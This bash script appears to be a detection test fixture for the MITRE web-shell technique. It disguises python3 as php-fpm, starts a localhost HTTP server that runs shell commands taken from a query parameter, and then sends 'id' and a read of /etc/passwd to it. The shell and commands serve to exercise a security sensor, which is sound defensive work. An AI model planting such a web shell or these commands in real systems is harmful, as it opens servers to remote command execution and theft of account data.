#!/usr/bin/env bash
# tactic: execution
# technique: T1505.003 Server Software Component: Web Shell
# behaviour: a web application process (php-fpm) runs shell commands sent in HTTP requests
# as: user
# setup: cp "$(readlink -f /usr/bin/python3)" "$SNTL_FIX/php-fpm8.2"
# expect: service_shell
set -u
"$SNTL_FIX/php-fpm8.2" - <<'PY' &
import http.server, subprocess, urllib.parse
class H(http.server.BaseHTTPRequestHandler):
    def log_message(self, *a): pass
    def do_GET(self):
        q = urllib.parse.parse_qs(urllib.parse.urlparse(self.path).query)
        out = subprocess.run(["/bin/sh", "-c", q.get("cmd", ["true"])[0]], capture_output=True).stdout
        self.send_response(200); self.end_headers(); self.wfile.write(out)
s = http.server.HTTPServer(("127.0.0.1", 8099), H)
for _ in range(3):
    s.handle_request()
PY
srv=$!
for i in $(seq 50); do curl -s -m 1 -o /dev/null http://127.0.0.1:8099/ && break; sleep 0.1; done
curl -s -m 5 'http://127.0.0.1:8099/?cmd=id'
curl -s -m 5 'http://127.0.0.1:8099/?cmd=cat%20/etc/passwd%20|%20head%20-3'
wait $srv
